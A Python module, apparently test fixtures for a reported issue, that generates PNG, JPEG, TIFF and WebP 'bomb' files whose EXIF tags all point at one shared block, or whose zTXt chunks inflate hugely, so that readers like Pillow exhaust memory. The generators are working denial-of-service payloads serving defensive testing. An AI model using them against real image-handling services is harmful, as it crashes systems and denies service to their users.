"""Images whose metadata is built to make a reader copy one block of data once per tag.

A TIFF directory (EXIF is one) lists tags whose data may sit anywhere; here tens of
thousands of tags all point at the same block, so a reader that copies each tag's data
(Pillow does) needs tags x block bytes. Small on the wire, gigabytes in memory.
"""
from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image, TiffTags

UNDEFINED = 7  # TIFF type: bytes


def _tag_ids(n: int) -> list[int]:
    """``n`` tag ids that mean nothing to a reader (none of the TIFF / EXIF tags it knows)."""
    known = set(TiffTags.TAGS_V2) | set(TiffTags.TAGS) | {0x8769, 0x8825, 0xA005, 0x014A}
    ids = [tag for tag in range(1, 65536) if tag not in known]
    assert len(ids) >= n
    return ids[:n]


def tiff_block(tags: int, block: int, *, first_ifd_extra: bytes = b"") -> bytes:
    """A little-endian TIFF structure: one directory of ``tags`` entries, each pointing at
    the same ``block`` bytes that follow the directory."""
    ifd_offset = 8
    data_offset = ifd_offset + 2 + 12 * tags + 4
    entries = b"".join(struct.pack("<HHII", tag, UNDEFINED, block, data_offset) for tag in _tag_ids(tags))
    return (b"II*\x00" + struct.pack("<I", ifd_offset) + struct.pack("<H", tags) + entries
            + struct.pack("<I", 0) + b"\x00" * block + first_ifd_extra)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_exif(tags: int = 65_000, block: int = 5 << 20) -> bytes:
    """A 64x64 PNG with an eXIf chunk of ``tags`` tags sharing one ``block`` (the issue's
    5.8 MB file: 65,000 tags, 5 MB)."""
    buf = io.BytesIO()
    Image.fromarray(np.full((64, 64, 3), 90, np.uint8)).save(buf, "PNG")
    png = buf.getvalue()
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + _png_chunk(b"eXIf", tiff_block(tags, block)) + png[iend:]


def png_with_text(chunks: int = 60, inflated: int = 1 << 20) -> bytes:
    """A 64x64 PNG with ``chunks`` zTXt chunks of ``inflated`` zero bytes each, a thousand
    times smaller compressed (Pillow's defaults let 64 MB of such text in)."""
    buf = io.BytesIO()
    Image.fromarray(np.full((64, 64, 3), 90, np.uint8)).save(buf, "PNG")
    png = buf.getvalue()
    text = zlib.compress(b"\0" * inflated, 9)
    ztxt = b"".join(_png_chunk(b"zTXt", f"k{i}".encode() + b"\0\0" + text) for i in range(chunks))
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + ztxt + png[iend:]


def jpeg_with_exif(tags: int = 2700, block: int = 32_000, before: bytes = b"") -> bytes:
    """A JPEG whose APP1 EXIF segment (at most 64 KB) holds ``tags`` tags sharing one
    ``block``: the most copying one segment allows (~90 MB)."""
    buf = io.BytesIO()
    Image.fromarray(np.full((64, 64, 3), 90, np.uint8)).save(buf, "JPEG")
    jpeg = buf.getvalue()
    payload = b"Exif\x00\x00" + tiff_block(tags, block)
    assert len(payload) + 2 <= 0xFFFF, "an APP1 segment holds at most 64 KB"
    app1 = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    app0_end = 4 + struct.unpack(">H", jpeg[4:6])[0]  # SOI, then Pillow's JFIF APP0 segment
    # ``before``: bytes a reader must skip to find the segment (junk, 0xFF fill bytes), as Pillow does
    return jpeg[:app0_end] + before + app1 + jpeg[app0_end:]


def tiff_with_tags(tags: int = 65_000, block: int = 5 << 20) -> bytes:
    """A TIFF file whose own directory is the bomb (Pillow reads it while opening), with a
    64x64 RGB image that a reader would otherwise decode fine."""
    buf = io.BytesIO()
    Image.fromarray(np.full((64, 64, 3), 90, np.uint8)).save(buf, "TIFF")
    good = buf.getvalue()
    # the valid image's directory, followed by the extra tags that point at one block
    order = "<"
    ifd = struct.unpack(order + "I", good[4:8])[0]
    count = struct.unpack(order + "H", good[ifd:ifd + 2])[0]
    entries = good[ifd + 2: ifd + 2 + 12 * count]
    block_offset = len(good)
    ids = [tag for tag in _tag_ids(tags + count) if tag not in set(struct.unpack_from("<H", entries, 12 * i)[0]
                                                                    for i in range(count))][:tags]
    extra = b"".join(struct.pack("<HHII", tag, UNDEFINED, block, block_offset) for tag in ids)
    # new directory at the end: the original entries (sorted tags first), then the extra ones
    new_ifd = block_offset + block
    directory = struct.pack("<H", count + tags) + entries + extra + struct.pack("<I", 0)
    data = bytearray(good + b"\x00" * block + directory)
    data[4:8] = struct.pack("<I", new_ifd)
    return bytes(data)


def webp_with_exif(tags: int = 65_000, block: int = 5 << 20) -> bytes:
    """A WebP with an EXIF chunk built the same way."""
    buf = io.BytesIO()
    Image.fromarray(np.full((64, 64, 3), 90, np.uint8)).save(buf, "WEBP", exif=b"Exif\x00\x00" + tiff_block(tags, block))
    return buf.getvalue()


BOMBS = {
    "exif-bomb.png": png_with_exif,
    "exif-bytes-bomb.png": lambda: png_with_exif(tags=1000, block=1 << 20),
    "text-bomb.png": png_with_text,
    "exif-bomb.jpg": jpeg_with_exif,
    "exif-bomb-after-junk.jpg": lambda: jpeg_with_exif(before=b"\x00junk"),
    "exif-bomb-after-fill.jpg": lambda: jpeg_with_exif(before=b"\xff" * 5000),
    "tag-bomb.tiff": tiff_with_tags,
    "exif-bomb.webp": webp_with_exif,
}
